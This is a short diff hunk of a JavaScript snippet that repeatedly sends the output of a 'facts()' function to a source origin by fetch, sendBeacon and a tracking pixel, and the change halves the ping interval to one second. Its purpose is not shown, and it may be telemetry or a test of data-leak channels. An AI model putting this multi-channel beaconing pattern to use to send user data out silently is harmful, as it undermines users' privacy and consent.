@@ -29,7 +29,7 @@
     fetch(`${source.origin}/collect?${facts()}`, { mode: 'no-cors', keepalive: true }).catch(() => {})
 
   ping()
-  setInterval(ping, 2000)
+  setInterval(ping, 1000)
   navigator.sendBeacon(`${source.origin}/beacon`, facts())
   new Image().src = `${source.origin}/pixel.gif?${facts()}`
 })()
